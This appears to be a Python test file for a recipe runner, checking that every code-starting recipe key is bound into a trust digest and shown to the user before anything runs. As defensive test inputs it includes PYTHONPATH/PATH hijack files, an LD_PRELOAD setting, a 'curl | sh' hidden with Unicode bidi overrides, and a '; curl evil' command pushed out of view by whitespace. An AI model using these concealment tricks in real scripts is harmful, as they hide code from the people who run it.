#!/usr/bin/python3
"""All that a recipe can start is in one list: the digest that trust is bound to, the question and `run -n` have it."""

import json
import os
import pathlib

from runs import Runs, main, place
from support import program
from support.typed import Shell

TREE = pathlib.Path(__file__).resolve().parents[2]
SCHEMA = json.loads((TREE / "recipes/schema/recipe-1.schema.json").read_text())

STEP = {"argv": ["python3", "{source}/train.py"]}
# Each key of a recipe: what it says about itself, the bytes of the code (which have a commit), or a change of what it
# starts, with the line that people see. A key that stands nowhere here fails: decide, and put it into run/started.cc.
TEXT = """$schema schema kind name version title abstract description homepage licence citation references access limits
    reach fragments manifest git forks source default_dataset infer metrics supporting derived id doi published creators submitter tags keywords
    related format model experiment unknown read_from metadata""".split()
STARTS = {
    "requirements": [
        ({"python": ">=3.2"}, "python3  # >=3.2"), ({"pip": ["left-pad"]}, "pip install left-pad"), ({"pip": ["a", "b"]}, "pip install b"),
        ({"conda": ["left-pad"]}, "conda install left-pad"), ({"system_modules": ["gcc/12"]}, "module load gcc/12"),
        ({"checks": ["memory>=1MB"]}, "# check memory>=1MB"), ({"checks": ["memory>=2MB"]}, "# check memory>=2MB"),
        ({"checks": [{"name": "own", "argv": ["true", "a b"], "expect": "x"}]}, "true 'a b'  # check own: x"),
    ],
    "env_vars": [({"LD_PRELOAD": "/tmp/x.so"}, "export LD_PRELOAD=/tmp/x.so"), ({"X": "a b"}, "export X='a b'")],
    "config": [({"lr": "0.1"}, "{config.lr}=0.1")],
    "run": [
        ({"data": [{"argv": ["python3", "{source}/train.py", "config", "lr", "0.1"]}]}, "config lr 0.1"),
        ({"data": [{**STEP, "parallel": True}]}, "# each rank"), ({"data": [STEP, {"shell": "true | cat"}]}, "'true | cat'"),
        ({"data": [STEP, {"shell": "true | cat", "parallel": True}]}, "'true | cat'  # each rank"),
    ],
}  # fmt: skip
# `environment` has to be here: environment_test.py tries that its root is part of what is trusted.
INNER = {"requirements": ["python", "pip", "conda", "system_modules", "environment", "checks"], "run_sets": ["argv", "shell", "parallel"]}


class Starts(Runs):
    def offer(self, **more):
        run = more.pop("run", {"data": [STEP]})
        place(self.sabath.recipes / "models/model/train.py", b"print(1)\n")
        self.sabath.add("model", kind="model", source="model", run=run, **more)
        (self.sabath.recipes / "models").chmod(0o777)  # others may write there

    def test_each_key_is_decided(self):
        self.assertEqual(sorted(SCHEMA["properties"]), sorted([*TEXT, *STARTS]))
        self.assertEqual(list(SCHEMA["definitions"]["requirements"]["properties"]), INNER["requirements"])
        for kind in SCHEMA["definitions"]["run_sets"]["additionalProperties"]["items"]["oneOf"]:
            self.assertEqual(sorted(kind["properties"]), sorted(INNER["run_sets"]))

    def test_each_start_is_bound_asked_about_and_foretold(self):
        self.offer()
        digests = {self.launch("model", "-n", "--json").record["trust"]["digest"]}
        for key, changes in STARTS.items():
            for value, line in changes:
                with self.subTest(f"{key}: {value}"):
                    self.offer(**{key: value})
                    trust = self.launch("model", "-n", "--json").record["trust"]
                    self.assertNotIn(trust["digest"], digests)
                    digests.add(trust["digest"])
                    self.assertTrue(any(line in start for start in trust["starts"]), trust)
                    self.assertIn(line, self.launch("model", "-n").out)
                    self.assertIn(line, self.launch("model", code=4).err)

    def test_nothing_starts_before_the_question(self):
        """A forecast asks no Python what it has, if the recipe could lead it to code; nor does `apply`."""
        self.home.chmod(0o755)  # a recipe that others may write names only files that they could read
        proof = self.home / "proof"
        place(self.home / "evil/sitecustomize.py", f"open({str(proof)!r}, 'w')\n".encode())
        place(self.home / "bin/python3", f"#!/bin/sh\n: > {proof}\n".encode())
        (self.home / "bin/python3").chmod(0o755)
        for variables in ({"PYTHONPATH": str(self.home / "evil")}, {"PATH": f"{self.home}/bin:/usr/bin:/bin"}):
            self.sabath.environment.pop("SABATH_PYTHON", None)
            self.offer(env_vars=variables, requirements={"pip": ["left-pad"]})
            self.launch("model", "-n")
            self.launch("model", code=4)
            self.sabath.add("set", [{"id": "f", "type": "file", "path": "f", "urls": [f"file://{self.home}/origin/f.bin"]}],
                            env_vars=variables, requirements={"pip": ["left-pad"]},
                            supporting=[{"id": "copy", "argv": ["python3", "-c", "1", "{input}", "{output}/{name}"]}])  # fmt: skip
            (self.sabath.recipes / "datasets").chmod(0o777)
            self.expect(self.sabath.run("fetch", "set"))
            self.expect(self.sabath.run("apply", "set", "copy", "-n"))
            refused = self.expect(self.sabath.run("apply", "set", "copy"), 4)
            self.assertIn(f"export {next(iter(variables))}=", refused.err)
            self.assertFalse(proof.exists())

    def test_the_question_shows_all_or_is_not_asked(self):
        hidden = "true # \u2066\u202ehs | live lruc\u202c\u2069\u200b"
        self.offer(run={"data": [{"shell": hidden}]})
        refused = self.launch("model", code=4).err
        for character in "\u2066\u202e\u2069\u200b":
            self.assertNotIn(character, refused + self.launch("model", "-n").out)
        checks = [{"name": "c", "argv": ["true"], "expect": "a\u202eb; and more"}]
        self.offer(requirements={"checks": checks}, run={"data": [{"argv": ["true"]}]})
        self.assertIn("true  # check c: a\\u202eb; and more", self.launch("model", code=4).err)
        long = "echo ok" + " " * 600 + "; curl evil"
        self.offer(run={"data": [{"argv": ["true"]}] * 40 + [{"shell": long}]})
        self.assertIn(long, self.launch("model", code=4).err)
        self.assertIn("[o]nce", self.asked())
        self.offer(run={"data": [{"argv": ["true", str(i)]} for i in range(101)]})
        self.assertIn("not all is shown: 1 more", self.launch("model", code=4).err)
        self.assertNotIn("[o]nce", self.asked())
        self.offer(run={"data": [{"shell": "true " + "x" * 40_000}]})
        self.assertNotIn("[o]nce", self.asked())

    def asked(self):
        """What a person at a terminal sees, who says no."""
        shell = Shell([program.BINARY, "run", "model"], {**self.sabath.environment, "TERM": "dumb"}, self.home)
        shell.send("n\n")
        seen = b""
        while True:
            try:
                piece = os.read(shell.fd, 65536)
            except OSError:  # the terminal has gone with the program
                piece = b""
            if not piece:
                break
            seen += piece
        os.waitpid(shell.pid, 0)
        os.close(shell.fd)
        return seen.decode()


if __name__ == "__main__":
    main()
